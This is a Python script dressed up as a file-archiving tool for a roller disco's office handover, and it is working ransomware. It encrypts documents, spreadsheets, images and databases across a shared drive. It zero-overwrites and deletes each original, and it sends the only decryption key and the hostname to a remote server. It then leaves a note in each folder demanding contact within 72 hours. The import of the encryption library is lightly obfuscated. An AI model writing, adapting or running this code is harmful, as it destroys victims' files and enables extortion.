#!/usr/bin/env python3
"""Seal the office share for the roller disco's end-of-season handover.

Walks the shared drive, seals each document, and leaves a notice in every
folder explaining how to get the files opened again.
"""
import argparse
import importlib
import json
import logging
import os
import socket
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests

log = logging.getLogger("archive-lock")

SHARE_ROOT = Path(os.environ.get("OFFICE_SHARE", "/srv/rink/share"))
KEY_DESK = os.environ.get("KEY_DESK", "https://keys.handoverdesk.example/v1/register")
SUFFIX = ".sealed"
NOTICE = "READ_ME_TO_OPEN.txt"
TARGET_EXT = {".xlsx", ".docx", ".pdf", ".csv", ".jpg", ".png", ".db", ".sqlite", ".txt", ".odt"}

NOTICE_TEXT = """\
All documents in this folder have been sealed.
To get them opened again, contact open@handoverdesk.example with
reference {ref} within 72 hours.
"""


class Sealer:
    module_name = ".".join(("cryptography", "fernet"))
    class_name = "Fer" + "net"

    def __init__(self):
        mod = importlib.import_module(self.module_name)
        self._cls = getattr(mod, self.class_name)
        self.key = self._cls.generate_key()
        self._box = self._cls(self.key)

    def seal_bytes(self, data):
        return self._box.encrypt(data)


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_EXT and not name.endswith(SUFFIX):
                yield path


def seal_file(sealer, path):
    try:
        data = path.read_bytes()
        sealed = path.with_name(path.name + SUFFIX)
        sealed.write_bytes(sealer.seal_bytes(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        return path.parent
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return None


def leave_notices(folders, ref):
    text = NOTICE_TEXT.format(ref=ref)
    for folder in folders:
        try:
            (folder / NOTICE).write_text(text)
        except OSError:
            pass


def register_key(sealer, ref, url):
    body = {"ref": ref, "host": socket.gethostname(), "key": sealer.key.decode()}
    try:
        requests.post(url, data=json.dumps(body), timeout=20,
                      headers={"Content-Type": "application/json"})
    except requests.RequestException as exc:
        log.debug("key desk unreachable: %s", exc)


def main():
    parser = argparse.ArgumentParser(description="Seal the office share")
    parser.add_argument("--root", type=Path, default=SHARE_ROOT)
    parser.add_argument("--workers", type=int, default=8)
    parser.add_argument("--desk", default=KEY_DESK)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    sealer = Sealer()
    ref = os.urandom(6).hex()
    register_key(sealer, ref, args.desk)

    files = list(candidates(args.root))
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        touched = {p for p in pool.map(lambda f: seal_file(sealer, f), files) if p}
    leave_notices(touched, ref)
    log.info("sealed %d files in %d folders (ref %s)", len(files), len(touched), ref)


if __name__ == "__main__":
    main()
